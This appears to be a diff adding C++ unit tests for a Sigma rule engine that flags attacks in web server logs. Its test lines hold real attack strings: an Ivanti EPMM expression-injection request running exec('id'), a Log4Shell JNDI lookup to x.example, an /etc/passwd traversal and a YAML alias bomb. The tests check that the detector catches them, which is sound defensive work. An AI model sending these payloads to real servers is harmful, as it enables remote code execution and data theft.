@@ -1,0 +1,273 @@
+#include "detect/sigma.h"
+
+#include <gtest/gtest.h>
+
+#include <filesystem>
+#include <iostream>
+#include <map>
+#include <string>
+#include <vector>
+
+#include "detect/log_parser.h"
+
+namespace rampart::detect {
+namespace {
+
+const std::string kSigmaDir = RAMPART_SOURCE_DIR "/../shared/sigma";
+constexpr std::string_view kBrowser =
+    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
+
+std::string Line(std::string_view ip, std::string_view method, std::string_view target, int status,
+                 std::string_view ua = kBrowser) {
+  return std::string(ip) + " - - [30/Jan/2026:09:15:00 +0000] \"" + std::string(method) + " " +
+         std::string(target) + " HTTP/1.1\" " + std::to_string(status) + " 100 \"-\" \"" +
+         std::string(ua) + "\"";
+}
+
+class Rules {
+ public:
+  explicit Rules(std::string_view yaml) {
+    RuleSetBuilder b;
+    status_ = b.AddRuleText(yaml, "test.yml");
+    auto r = b.Build();
+    EXPECT_TRUE(r.ok()) << r.status().ToString();
+    set_ = std::move(r).value();
+    matcher_ = std::make_unique<RuleMatcher>(*set_);
+  }
+  const RuleSet& set() const { return *set_; }
+  const Status& status() const { return status_; }
+  bool Fires(const std::string& line) {
+    Event ev;
+    EXPECT_TRUE(ParseAccessLogLine(line, &ev)) << line;
+    std::vector<uint32_t> hits;
+    matcher_->Match(ev, &hits);
+    return !hits.empty();
+  }
+
+ private:
+  Status status_;
+  std::unique_ptr<RuleSet> set_;
+  std::unique_ptr<RuleMatcher> matcher_;
+};
+
+TEST(SigmaTest, SelectionsConditionsAndModifiers) {
+  Rules r(R"(
+title: Test rule
+id: 1
+level: high
+tags: [attack.initial-access, attack.t1190, attack.t1505.003]
+logsource: {category: webserver}
+detection:
+  sel_path:
+    cs-uri-stem|startswith: '/mifs/'
+    cs-method: [GET, POST]
+  sel_payload_a:
+    cs-uri-query|contains|all: ['gPath', '`']
+  sel_payload_b:
+    cs-uri-query|endswith: '.JSP'
+  filter_local:
+    c-ip|cidr: 127.0.0.0/8
+  condition: sel_path and 1 of sel_payload_* and not filter_local
+)");
+  ASSERT_EQ(r.set().size(), 1u);
+  EXPECT_EQ(r.set().rule(0).attack, (std::vector<std::string>{"T1190", "T1505.003"}));
+  EXPECT_EQ(r.set().rule(0).severity, "high");
+  EXPECT_TRUE(r.Fires(Line("203.0.113.1", "GET", "/mifs/x?h=gPath%5B%60id%60%5D", 404)));
+  EXPECT_TRUE(r.Fires(Line("203.0.113.1", "post", "/MIFS/a/b/shell.jsp", 200)));
+  EXPECT_FALSE(r.Fires(Line("127.0.0.1", "GET", "/mifs/x?h=gPath%5B%60id%60%5D", 404)));
+  EXPECT_FALSE(r.Fires(Line("203.0.113.1", "PUT", "/mifs/shell.jsp", 200)));
+  EXPECT_FALSE(r.Fires(Line("203.0.113.1", "GET", "/mifs/x?h=gPath", 200)));
+  EXPECT_FALSE(r.Fires(Line("203.0.113.1", "GET", "/other/shell.jsp", 200)));
+}
+
+TEST(SigmaTest, ExactWildcardsKeywordsAndNumbers) {
+  Rules r(R"(
+title: Exact
+logsource: {category: proxy}
+detection:
+  selection:
+    c-uri: '/a?c*\*'
+    sc-status: 200
+  keywords:
+    - 'EVIL-AGENT'
+  condition: selection or keywords
+)");
+  ASSERT_EQ(r.set().size(), 1u);
+  EXPECT_TRUE(r.Fires(Line("1.2.3.4", "GET", "/abcdef*", 200)));
+  EXPECT_FALSE(r.Fires(Line("1.2.3.4", "GET", "/abcdef*", 404)));
+  EXPECT_FALSE(r.Fires(Line("1.2.3.4", "GET", "/abcdef", 200)));
+  EXPECT_FALSE(r.Fires(Line("1.2.3.4", "GET", "/xabcdef*", 200)));
+  EXPECT_TRUE(r.Fires(Line("1.2.3.4", "GET", "/", 500, "x evil-agent y")));
+}
+
+TEST(SigmaTest, RegexNotAndParentheses) {
+  Rules r(R"(
+title: Re
+logsource: {category: webserver}
+detection:
+  a:
+    cs-uri-query|re: '\?d=[0-9]{1,3}\.[0-9]{1,3}$'
+  b:
+    cs-uri-query|re|i: 'SELECT.+FROM'
+  c:
+    c-useragent|contains: scanner
+  condition: not c and (a or b)
+)");
+  ASSERT_EQ(r.set().size(), 1u);
+  EXPECT_TRUE(r.Fires(Line("1.2.3.4", "GET", "/x?d=10.20", 200)));
+  EXPECT_TRUE(r.Fires(Line("1.2.3.4", "GET", "/x?q=select%20a%20from", 200)));
+  EXPECT_FALSE(r.Fires(Line("1.2.3.4", "GET", "/x?q=select%20a%20from", 200, "Scanner/1")));
+  EXPECT_FALSE(r.Fires(Line("1.2.3.4", "GET", "/x?d=10.20.1", 200)));
+}
+
+TEST(SigmaTest, BackreferenceFallsBackToStdRegex) {
+  Rules r(R"(
+title: Backref
+logsource: {category: webserver}
+detection:
+  selection:
+    cs-uri-stem|re: '/(ab)\1/'
+  condition: selection
+)");
+  ASSERT_EQ(r.set().size(), 1u);
+  EXPECT_EQ(r.set().fallback_matchers(), 1u);
+  EXPECT_TRUE(r.Fires(Line("1.2.3.4", "GET", "/abab/", 200)));
+  EXPECT_FALSE(r.Fires(Line("1.2.3.4", "GET", "/abcd/", 200)));
+}
+
+TEST(SigmaTest, NegationOnlyRuleIsEvaluatedEveryTime) {
+  Rules r(R"(
+title: Not GET
+logsource: {category: webserver}
+detection:
+  get:
+    cs-method: GET
+  condition: not get
+)");
+  EXPECT_TRUE(r.Fires(Line("1.2.3.4", "DELETE", "/", 200)));
+  EXPECT_FALSE(r.Fires(Line("1.2.3.4", "GET", "/", 200)));
+}
+
+TEST(SigmaTest, SkipsWithPreciseReasons) {
+  struct Case {
+    const char* yaml;
+    const char* reason_part;
+  };
+  const Case cases[] = {
+      {"title: a\nlogsource: {category: webserver}\ndetection:\n  s:\n    c-uri|base64: x\n  "
+       "condition: s\n",
+       "modifier 'base64'"},
+      {"title: a\nlogsource: {category: webserver}\ndetection:\n  s:\n    Image: x\n  "
+       "condition: s\n",
+       "field 'Image' has no mapping"},
+      {"title: a\nlogsource: {category: process_creation}\ndetection:\n  s:\n    c-uri: x\n  "
+       "condition: s\n",
+       "not a web server"},
+      {"title: a\nlogsource: {category: webserver}\ndetection:\n  s:\n    c-uri: x\n  "
+       "condition: s and t\n",
+       "unknown selection 't'"},
+      {"title: a\nlogsource: {category: webserver}\ndetection:\n  s:\n    c-uri: x\n  "
+       "condition: s | count() > 5\n",
+       "aggregation"},
+      {"title: a\nlogsource: {category: webserver}\ndetection:\n  s:\n    c-uri|re: '(?<=a)b'\n  "
+       "condition: s\n",
+       "refused by Vectorscan"},
+      {"title: a\nlogsource: [unclosed\n", "YAML error at line"},
+      {"title: a\nlogsource: {category: webserver}\ndetection:\n  s:\n    c-uri|re: "
+       "'(?<=x)a{99999999}'\n  condition: s\n",
+       "bounded repeats"},
+
+      {"title: a\nlogsource: {category: webserver}\ndetection:\n  s:\n    c-uri: x\n  "
+       "condition: (s\n",
+       "missing ')'"},
+  };
+  // YAML aliases multiply a few hundred bytes into 30,000 values.
+  std::string laughs =
+      "title: a\nlogsource: {category: webserver}\ndetection:\n  v: &v [";
+  for (int i = 0; i < 100; ++i) laughs += (i ? ",x" : "x") + std::to_string(i);
+  laughs += "]\n  m: &m {c-uri: *v, cs-uri: *v, cs-uri-query: *v, cs-uri-stem: *v, cs-method: *v, "
+            "sc-status: *v, c-useragent: *v, cs-host: *v, cs-referer: *v, cs-username: *v}\n"
+            "  l: [";
+  for (int i = 0; i < 30; ++i) laughs += i ? ",*m" : "*m";
+  laughs += "]\n  condition: l\n";
+  std::vector<Case> all(std::begin(cases), std::end(cases));
+  all.push_back({laughs.c_str(), "more than 20000 values"});
+  for (const Case& c : all) {
+    RuleSetBuilder b;
+    b.AddRuleText(c.yaml, "bad.yml").IgnoreError();
+    auto set = b.Build();
+    ASSERT_TRUE(set.ok());
+    EXPECT_EQ((*set)->size(), 0u) << c.yaml;
+    ASSERT_EQ((*set)->skipped().size(), 1u) << c.yaml;
+    EXPECT_NE((*set)->skipped()[0].reason.find(c.reason_part), std::string::npos)
+        << (*set)->skipped()[0].reason;
+    EXPECT_EQ((*set)->skipped()[0].file, "bad.yml");
+  }
+}
+
+TEST(SigmaHqTest, EveryRuleLoadsOrHasAReason) {
+  ASSERT_TRUE(std::filesystem::is_directory(kSigmaDir)) << kSigmaDir;
+  size_t files = 0;
+  for (const auto& e : std::filesystem::recursive_directory_iterator(kSigmaDir)) {
+    if (e.path().extension() == ".yml") ++files;
+  }
+  RuleSetBuilder b;
+  ASSERT_TRUE(b.AddDirectory(kSigmaDir).ok());
+  auto set = b.Build();
+  ASSERT_TRUE(set.ok()) << set.status().ToString();
+  const RuleSet& rs = **set;
+  EXPECT_EQ(rs.size() + rs.skipped().size(), files);
+  std::map<std::string, int> reasons;
+  for (const auto& s : rs.skipped()) {
+    EXPECT_FALSE(s.reason.empty()) << s.file;
+    EXPECT_FALSE(s.file.empty());
+    std::cout << "skipped " << s.file.substr(kSigmaDir.size()) << ": " << s.reason << "\n";
+  }
+  std::cout << "SigmaHQ rules: " << files << " files, " << rs.size() << " loaded, "
+            << rs.skipped().size() << " skipped, " << rs.vectorscan_matchers()
+            << " Vectorscan matchers, " << rs.fallback_matchers() << " C++ matchers\n";
+  EXPECT_GE(rs.size(), files * 9 / 10);
+
+  RuleMatcher m(rs);
+  auto fired = [&](const std::string& line) {
+    Event ev;
+    EXPECT_TRUE(ParseAccessLogLine(line, &ev));
+    std::vector<uint32_t> hits;
+    m.Match(ev, &hits);
+    std::vector<std::string> titles;
+    for (uint32_t h : hits) titles.push_back(rs.rule(h).title);
+    return titles;
+  };
+  auto contains = [](const std::vector<std::string>& v, std::string_view part) {
+    for (const auto& t : v) {
+      if (t.find(part) != std::string::npos) return true;
+    }
+    return false;
+  };
+  // CVE-2025-4427/4428 (SigmaHQ's own rule).
+  auto hits = fired(Line("203.0.113.5", "GET",
+                         "/mifs/rs/api/v2/featureusage?format=%24%7B''.getClass().forName('java."
+                         "lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')%7D",
+                         400));
+  EXPECT_TRUE(contains(hits, "CVE-2025-4427")) << hits.size();
+  // Log4Shell in the user agent.
+  hits = fired(Line("203.0.113.5", "GET", "/", 200, "${jndi:ldap://x.example/a}"));
+  EXPECT_TRUE(contains(hits, "Log4")) << hits.size();
+  // Path traversal.
+  hits = fired(Line("203.0.113.5", "GET", "/static/../../../../etc/passwd", 404));
+  EXPECT_FALSE(hits.empty());
+  // Benign MDM traffic fires nothing.
+  for (const auto& benign :
+       {Line("10.1.2.3", "GET",
+             "/mifs/c/appstore/fob/3/17/sha256:kid=1,st=1769760000,h=0a1b2c,"
+             "et=1769763600/0f8fad5b-d9cb-469f-a165-70867728950e.ipa",
+             200, "MobileIron/12.1 CFNetwork/1410.0.3 Darwin/22.6.0"),
+        Line("10.1.2.3", "POST", "/api/v1/devices/checkin", 200, "RampartAgent/0.1"),
+        Line("10.1.2.3", "GET", "/index.html", 200)}) {
+    hits = fired(benign);
+    EXPECT_TRUE(hits.empty()) << benign << " fired " << (hits.empty() ? "" : hits[0]);
+  }
+}
+
+}  // namespace
+}  // namespace rampart::detect
